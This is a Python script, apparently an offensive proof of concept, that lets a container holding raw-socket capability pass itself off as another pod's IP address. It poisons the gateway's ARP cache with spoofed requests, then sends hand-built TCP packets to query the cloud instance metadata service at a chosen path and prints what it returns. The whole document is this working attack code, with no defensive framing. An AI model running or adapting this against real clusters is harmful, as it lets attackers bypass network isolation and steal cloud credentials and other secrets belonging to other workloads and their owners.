"""Asks the metadata service from the address of another pod, as a pod with CAP_NET_RAW on a bridge can.

It tells the gateway that the address is at its own hardware address, and speaks TCP itself: the kernel
of this pod knows nothing of the connection.

    take_address.py ADDRESS GATEWAY PATH
"""

import random
import socket
import struct
import sys
import time

SERVICE = "169.254.169.254"
SYN, ACK, PUSH, FIN = 0x02, 0x10, 0x08, 0x01
address, gateway, path = sys.argv[1:]

with open("/sys/class/net/eth0/address") as file:
    own_mac = bytes.fromhex(file.read().strip().replace(":", ""))
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
link.bind(("eth0", 0))
link.settimeout(0.2)


def claim_address():
    """Asks who has the gateway's address, as the one whose address is taken; the gateway notes it."""
    ask = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)
    ask += own_mac + socket.inet_aton(address) + bytes(6) + socket.inet_aton(gateway)
    link.send(b"\xff" * 6 + own_mac + b"\x08\x06" + ask)


def gateway_mac():
    for _ in range(20):
        claim_address()
        end = time.monotonic() + 0.2
        while time.monotonic() < end:
            frame = receive()
            if frame[12:14] == b"\x08\x06" and frame[28:32] == socket.inet_aton(gateway):
                return frame[22:28]
    sys.exit("The gateway does not answer")


def receive():
    try:
        return link.recv(65536)
    except socket.timeout:
        return b""


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(flags, data=b""):
    ends = socket.inet_aton(address) + socket.inet_aton(SERVICE)

    def segment(check):
        head = struct.pack("!HHIIBBHHH", port, 80, sent, got, 5 << 4, flags, 65535, check, 0)
        return head + data

    pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20 + len(data))
    tcp = segment(checksum(pseudo + segment(0)))

    def header(check):
        return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, check) + ends

    link.send(peer_mac + own_mac + b"\x08\x00" + header(checksum(header(0))) + tcp)


def segments(seconds):
    """What comes for this connection: flags, sequence number and data."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        frame = receive()
        if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[30:34] != socket.inet_aton(address):
            continue
        start = 14 + (frame[14] & 15) * 4
        total = struct.unpack("!H", frame[16:18])[0]
        source, target, number, _, offset, flags = struct.unpack("!HHIIBB", frame[start : start + 14])
        if (source, target) == (80, port):
            yield flags, number, frame[start + (offset >> 4) * 4 : 14 + total]


peer_mac = gateway_mac()
for attempt in range(10):
    port, sent, got = random.randint(20000, 60000), random.getrandbits(31), 0
    claim_address()
    send(SYN)
    answers = [(flags, number) for flags, number, _ in segments(0.5) if flags & SYN]
    if answers:
        break
else:
    sys.exit("Nobody answers")
sent, got = sent + 1, answers[0][1] + 1
send(ACK)
send(ACK | PUSH, f"GET {path} HTTP/1.1\r\nHost: {SERVICE}\r\nConnection: close\r\n\r\n".encode())
body = b""
for flags, number, data in segments(10):
    if number == got and data:
        body += data
        got += len(data)
        send(ACK)
    if flags & FIN:
        break
print(body.decode())
